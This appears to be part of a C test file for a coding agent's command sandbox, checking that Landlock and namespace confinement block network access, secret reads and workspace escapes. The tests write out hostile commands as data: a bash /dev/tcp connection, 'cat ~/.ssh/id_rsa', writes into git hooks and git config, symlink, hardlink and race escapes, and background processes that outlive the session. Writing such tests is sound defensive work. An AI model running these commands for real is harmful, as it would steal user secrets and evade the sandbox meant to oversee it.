	ck_assert_int_eq(run_o(cmd, &o, &r), C_OK);
	ck_assert_msg(r.exit_code != 0, "network reached: %s\n%s", cmd,
		      buf_str(&r.output));
	sandbox_result_free(&r);
	/* twin: with the network allowed (per command, by approval) */
	o.net = true;
	ck_assert_int_eq(run_o(cmd, &o, &r), C_OK);
	ck_assert_msg(r.exit_code == 0, "allowed network failed: %s\n%s", cmd,
		      buf_str(&r.output));
	sandbox_result_free(&r);
	free(cmd);
	close(s);
}

START_TEST(sb_net_python_socket)
{
	NEED_LANDLOCK();
	net_case("python3 -c 'import socket; s = socket.create_connection("
		 "(\"127.0.0.1\", ", "), timeout=3); print(\"connected\")'", "python3");
}
END_TEST

START_TEST(sb_net_bash_dev_tcp)
{
	NEED_LANDLOCK();
	net_case("bash -c 'exec 3<>/dev/tcp/127.0.0.1/", " && echo connected'", "bash");
}
END_TEST

START_TEST(sb_net_curl)
{
	NEED_LANDLOCK();
	/* curl connects, then times out waiting for an HTTP answer; exit 28
	 * (timeout) means it reached the listener, 7 that it could not. */
	net_case("curl -s -m 1 http://127.0.0.1:", "/; test $? = 28", "curl");
}
END_TEST

START_TEST(sb_net_udp_and_raw_families)
{
	struct sandbox_result r;
	NEED_LANDLOCK();
	if (!have("python3")) {
		fprintf(stderr, "SKIP %s: no python3\n", __func__);
		return;
	}
	ck_assert_int_eq(run("python3 -c '\n"
			     "import socket\n"
			     "n = 0\n"
			     "for fam, ty in ((socket.AF_INET, socket.SOCK_DGRAM), "
			     "(socket.AF_INET6, socket.SOCK_STREAM), "
			     "(socket.AF_NETLINK, socket.SOCK_RAW), (17, socket.SOCK_RAW)):\n"
			     "  try:\n"
			     "    socket.socket(fam, ty); n += 1\n"
			     "  except OSError:\n"
			     "    pass\n"
			     "a, b = socket.socketpair()\n"
			     "a.send(b\"unix-ok\"); print(b.recv(10).decode(), n)\n"
			     "'", &r), 0);
	/* twin: AF_UNIX still works; every other family refused */
	ck_assert_str_eq(buf_str(&r.output), "unix-ok 0\n");
	sandbox_result_free(&r);
}
END_TEST

START_TEST(sb_unix_daemon_sockets)
{
	NEED_LANDLOCK();
	/* an ssh-agent (or docker, dbus ...) socket outside: unreachable
	 * with the network off; the command's own sockets still work */
	struct sandbox_result r;
	struct opts o = { 0 };
	struct sockaddr_un a;
	char *sock = P(root, "agent.sock"), *cmd;
	int s;
	if (!have("python3")) {
		fprintf(stderr, "SKIP %s: no python3\n", __func__);
		return;
	}
	s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
	memset(&a, 0, sizeof a);
	a.sun_family = AF_UNIX;
	snprintf(a.sun_path, sizeof a.sun_path, "%s", sock);
	ck_assert_int_eq(bind(s, (struct sockaddr *)&a, sizeof a), 0);
	ck_assert_int_eq(listen(s, 8), 0);
	setenv("SSH_AUTH_SOCK", sock, 1);
	cmd = xasprintf("python3 -c 'import socket; s = socket.socket(socket.AF_UNIX); "
			"s.connect(\"%s\"); print(\"CONNECTED\")'", sock);
	ck_assert_int_eq(run_o(cmd, &o, &r), C_OK);
	ck_assert_ptr_null(strstr(buf_str(&r.output), "CONNECTED"));
	sandbox_result_free(&r);
	o.net = true;
	ck_assert_int_eq(run_o(cmd, &o, &r), C_OK);
	ck_assert_ptr_nonnull(strstr(buf_str(&r.output), "CONNECTED"));
	sandbox_result_free(&r);
	if (caps.mountns && !getenv("CONCH_SANDBOX_TEST_NO_NAMESPACES")) {
		ck_assert_int_eq(run("python3 -c '\n"
				     "import socket, os\n"
				     "p = os.environ[\"TMPDIR\"] + \"/own.sock\"\n"
				     "srv = socket.socket(socket.AF_UNIX); srv.bind(p); srv.listen(1)\n"
				     "c = socket.socket(socket.AF_UNIX); c.connect(p); print(\"own ok\")\n"
				     "'", &r), 0);
		ck_assert_ptr_nonnull(strstr(buf_str(&r.output), "own ok"));
		sandbox_result_free(&r);
	}
	close(s);
	free(cmd);
	free(sock);
}
END_TEST

/* ---- fail closed ------------------------------------------------------- */

START_TEST(sb_refuses_without_landlock)
{
	struct sandbox_result r;
	struct opts o = { 0 };
	char *m = P(ws, "ran");
	setenv("CONCH_SANDBOX_TEST_NO_LANDLOCK", "1", 1);
	ck_assert_int_eq(run_o("touch ran", &o, &r), C_ERR_PERM);
	ck_assert_ptr_nonnull(strstr(buf_str(&r.output), "conch sandbox doctor"));
	ck_assert_ptr_nonnull(strstr(buf_str(&r.output), "Landlock"));
	sandbox_result_free(&r);
	ck_assert(!exists(m));
	/* twin: --sandbox off is explicit and runs it */
	o.off = true;
	ck_assert_int_eq(run_o("touch ran", &o, &r), C_OK);
	ck_assert_int_eq(r.exit_code, 0);
	sandbox_result_free(&r);
	ck_assert(exists(m));
	free(m);
}
END_TEST

START_TEST(sb_doctor_reports)
{
	struct buf out = BUF_INIT;
	bool ok = sandbox_doctor(&out);
	ck_assert_ptr_nonnull(strstr(buf_str(&out), "writes confined"));
	ck_assert_ptr_nonnull(strstr(buf_str(&out), "network off"));
	ck_assert_int_eq(ok, caps.landlock_abi > 0);
	buf_free(&out);
	setenv("CONCH_SANDBOX_TEST_NO_LANDLOCK", "1", 1);
	ck_assert(!sandbox_doctor(&out));
	ck_assert_ptr_nonnull(strstr(buf_str(&out), "REFUSED"));
	buf_free(&out);
}
END_TEST

/* ---- the write/edit tools' path helpers -------------------------------- */

START_TEST(sb_beneath_symlink_escape)
{
	struct buf why = BUF_INIT;
	char *l = P(ws, "link"), *f = P(outside, "pwned"), *s;
	ck_assert_int_eq(symlink(outside, l), 0);
	ck_assert_int_eq(sandbox_write_beneath(ws, "link/pwned", "x", 1, 0644, false, &why),
			 C_ERR_PERM);
	ck_assert(!exists(f));
	/* final component a symlink to an outside file */
	free(l);
	l = P(ws, "t");
	free(f);
	f = P(outside, "target.txt");
	ck_assert_int_eq(symlink(f, l), 0);
	ck_assert_int_eq(sandbox_write_beneath(ws, "t", "x", 1, 0644, false, &why),
			 C_ERR_PERM);
	s = test_read(f);
	ck_assert_str_eq(s, "original\n");
	free(s);
	ck_assert_int_eq(sandbox_write_beneath(ws, "../outside/pwned", "x", 1, 0644,
					       false, &why), C_ERR_PERM);
	ck_assert_int_eq(sandbox_write_beneath(ws, "/etc/passwd-conch", "x", 1, 0644,
					       false, &why), C_ERR_PERM);
	/* twin: a new file in new directories, and an existing one keeps its mode */
	ck_assert_int_eq(sandbox_write_beneath(ws, "a/b/new.txt", "new\n", 4, 0644,
					       true, &why), C_OK);
	{
		char *np = P(ws, "a/b/new.txt");
		s = test_read(np);
		ck_assert_str_eq(s, "new\n");
		free(s);
		free(np);
	}
	s = P(ws, "hello.txt");
	chmod(s, 0600);
	ck_assert_int_eq(sandbox_write_beneath(ws, s, "hi\n", 3, 0644, false, &why), C_OK);
	{
		struct stat st;
		stat(s, &st);
		ck_assert_int_eq(st.st_mode & 0777, 0600);
	}
	free(s);
	buf_free(&why);
	free(l);
	free(f);
}
END_TEST

START_TEST(sb_beneath_hardlink_fifo_device)
{
	struct buf why = BUF_INIT;
	char *t = P(outside, "target.txt"), *h = P(ws, "hl"), *fifo = P(ws, "fifo"), *s;
	int fd = -1;
	ck_assert_int_eq(link(t, h), 0);
	ck_assert_int_eq(sandbox_write_beneath(ws, "hl", "pwned", 5, 0644, false, &why),
			 C_ERR_PERM);
	ck_assert_int_eq(sandbox_open_beneath(ws, "hl", O_WRONLY | O_TRUNC, 0, &fd, &why),
			 C_ERR_PERM);
	s = test_read(t);
	ck_assert_str_eq(s, "original\n");
	free(s);
	ck_assert_int_eq(mkfifo(fifo, 0644), 0);
	/* must not block, must refuse */
	ck_assert_int_eq(sandbox_open_beneath(ws, "fifo", O_RDONLY, 0, &fd, &why), C_ERR_PERM);
	ck_assert_int_eq(sandbox_open_beneath(ws, "fifo", O_WRONLY, 0, &fd, &why), C_ERR_PERM);
	ck_assert_int_eq(sandbox_write_beneath(ws, "fifo", "x", 1, 0644, false, &why),
			 C_ERR_PERM);
	{
		char *dev = P(ws, "null");
		ck_assert_int_eq(symlink("/dev/null", dev), 0);
		ck_assert_int_eq(sandbox_open_beneath(ws, "null", O_RDONLY, 0, &fd, &why),
				 C_ERR_PERM);
		free(dev);
	}
	/* twin: an ordinary file opens */
	ck_assert_int_eq(sandbox_open_beneath(ws, "hello.txt", O_RDONLY, 0, &fd, &why), C_OK);
	ck_assert_int_ge(fd, 0);
	close(fd);
	buf_free(&why);
	free(t);
	free(h);
	free(fifo);
}
END_TEST

START_TEST(sb_beneath_symlink_swap_race)
{
	/* A child flips ws/d between a real directory and a symlink to the
	 * outside while we write d/f again and again: nothing may land
	 * outside. */
	struct buf why = BUF_INIT;
	char *d = P(ws, "d"), *real = P(ws, "d.real"), *tmp = P(ws, "d.tmp");
	char *lnk = P(ws, "d.link"), *f = P(outside, "f");
	pid_t pid;
	int i, ok = 0;
	mkdir(real, 0755);
	ck_assert_int_eq(symlink(outside, lnk), 0);
	ck_assert_int_eq(rename(real, d), 0);
	pid = fork();
	if (pid == 0) {
		for (;;) {
			/* swap in the symlink, then the directory back */
			rename(d, tmp);
			rename(lnk, d);
			rename(d, lnk);
			rename(tmp, d);
		}
	}
	for (i = 0; i < 3000; i++)
		if (sandbox_write_beneath(ws, "d/f", "x", 1, 0644, false, &why) == C_OK)
			ok++;
	kill(pid, SIGKILL);
	waitpid(pid, NULL, 0);
	ck_assert(!exists(f));
	buf_free(&why);
	free(d);
	free(real);
	free(tmp);
	free(lnk);
	free(f);
	(void)ok;
}
END_TEST

START_TEST(sb_sanitize_unit)
{
	struct buf b = BUF_INIT;
	const char in[] = "ok\x07\x08\x1b[?1049h\x1b" "c\xff\xc2\x9d" "52;c;x\x07" "z\x7f\n";
	sensitive_terminal_text(in, sizeof in - 1, &b);
	ck_assert_str_eq(buf_str(&b), "ok^G^H\\xFFz^?\n");
	buf_free(&b);
	/* an unterminated OSC swallows the rest */
	sensitive_terminal_text("a\x1b]0;t", 6, &b);
	ck_assert_str_eq(buf_str(&b), "a");
	buf_free(&b);
	/* UTF-8 text passes through */
	sensitive_terminal_text("h\xc3\xa9llo \xe2\x9c\x93", 10, &b);
	ck_assert_str_eq(buf_str(&b), "h\xc3\xa9llo \xe2\x9c\x93");
	buf_free(&b);
}
END_TEST

/* ---- the fallback without namespaces ------------------------------------ */

static void
setup_fallback(void)
{
	setup();
	setenv("CONCH_SANDBOX_TEST_NO_NAMESPACES", "1", 1);
}

START_TEST(fb_writes_confined)
{
	char *src = P(ws, "src"), *f = P(outside, "pwned"), *cmd, *s;
	NEED_LANDLOCK();
	mkdir(src, 0755);
	cmd = xasprintf("echo x > %s", f);
	/* twins write inside an existing directory: without a mount
	 * namespace the top of the workspace itself is not writable */
	attack_and_twin(cmd, "echo x > src/new.c && mkdir -p src/a/b && echo y > src/a/b/c");
	free(cmd);
	attack_and_twin("echo evil > .git/hooks/pre-commit", "echo ok > src/hook.txt");
	attack_and_twin("echo evil >> .git/config", "echo ok >> src/hook.txt");
	attack_and_twin("mkdir -p .conch && echo '{}' > .conch/config.json",
			"mkdir -p src/.conchish && echo '{}' > src/.conchish/c.json");
	attack_and_twin("mv .git g2", "mv src/hook.txt src/hook2.txt");
	ck_assert(!exists(f));
	s = P(ws, ".git/hooks/pre-commit");
	ck_assert(!exists(s));
	free(s);
	s = P(ws, ".conch");
	ck_assert(!exists(s));
	free(s);
	cmd = P(ws, ".git/config");
	s = test_read(cmd);
	ck_assert_str_eq(s, "[core]\n");
	free(s);
	free(cmd);
	free(src);
	free(f);
}
END_TEST

START_TEST(fb_tree_killed)
{
	struct sandbox_result r;
	struct opts o = { 0 };
	NEED_LANDLOCK();
	o.timeout_ms = 700;
	ck_assert_int_eq(run_o("(setsid sh -c 'sleep 60 # sbt-fb-marker' &); "
			       "sh -c 'sleep 61 # sbt-fb-marker' & "
			       "while :; do :; done", &o, &r), C_OK);
	ck_assert(r.timed_out);
	sandbox_result_free(&r);
	ck_assert(!marker_alive("sbt-fb-marker"));
	ck_assert_int_eq(run("(setsid sh -c 'sleep 62 # sbt-fb-marker2' &); echo bg", &r), 0);
	sandbox_result_free(&r);
	ck_assert(!marker_alive("sbt-fb-marker2"));
}
END_TEST

START_TEST(fb_network_and_secrets)
{
	struct sandbox_result r;
	NEED_LANDLOCK();
	ck_assert_int_ne(run("cat ~/.ssh/id_rsa", &r), 0);
	ck_assert_ptr_null(strstr(buf_str(&r.output), "PRIVATE-KEY"));
	sandbox_result_free(&r);
	net_case("bash -c 'exec 3<>/dev/tcp/127.0.0.1/", " && echo connected'", "bash");
}
END_TEST

int
main(void)
{
	const struct check_case cases[] = {
		{ .name = "adversarial", .setup = setup, .teardown = teardown,
		  .timeout = 60,
		  .tests = CHECK_TESTS(sb_write_outside_workspace,
		  	sb_write_outside_via_proc_root, sb_symlink_escape_bash,
		  	sb_hardlink_escape_bash, sb_git_hooks_readonly,
		  	sb_git_config_readonly, sb_git_dir_not_removable,
		  	sb_conch_config_not_yet_existing, sb_conch_symlink_swap,
		  	sb_conch_symlink_kept, sb_agents_skill_not_yet_existing,
		  	sb_git_file_target_readonly,
		  	sb_no_git_dir_cannot_be_planted, sb_shell_rc_readonly,
		  	sb_conch_memory_and_skills_readonly, sb_private_tmp,
		  	sb_read_only_spec, sb_hardlink_protected_file,
		  	sb_self_signal_and_pids, sb_read_ssh_key,
		  	sb_read_ssh_key_via_symlink, sb_read_aws_and_conch_keys,
		  	sb_read_user_added_secret, sb_root_raw_disk_and_shadow,
		  	sb_env_keys_hidden, sb_stdin_is_devnull,
		  	sb_background_child_does_not_outlive,
		  	sb_timeout_kills_whole_tree,
		  	sb_waits_after_output_closes, sb_fork_bomb,
		  	sb_memory_hog, sb_disk_filler, sb_endless_output,
		  	sb_tiocsti_refused, sb_escape_sequences_neutralised,
		  	sb_signals_cannot_leave, sb_net_python_socket,
		  	sb_net_bash_dev_tcp, sb_net_curl,
		  	sb_net_udp_and_raw_families, sb_unix_daemon_sockets,
		  	sb_refuses_without_landlock, sb_doctor_reports,
		  	sb_beneath_symlink_escape,
		  	sb_beneath_hardlink_fifo_device,
		  	sb_beneath_symlink_swap_race, sb_sanitize_unit) },
		{ .name = "fallback", .setup = setup_fallback, .teardown = teardown,
		  .timeout = 60,
		  .tests = CHECK_TESTS(fb_writes_confined, fb_tree_killed,
		  	fb_network_and_secrets, sb_unix_daemon_sockets) },
	};

	sandbox_probe(&caps);
	if (caps.landlock_abi < 1)
		fprintf(stderr, "note: no Landlock here; confinement cases skip\n");
	return check_run_cases("sandbox", cases, sizeof cases / sizeof cases[0]);
}
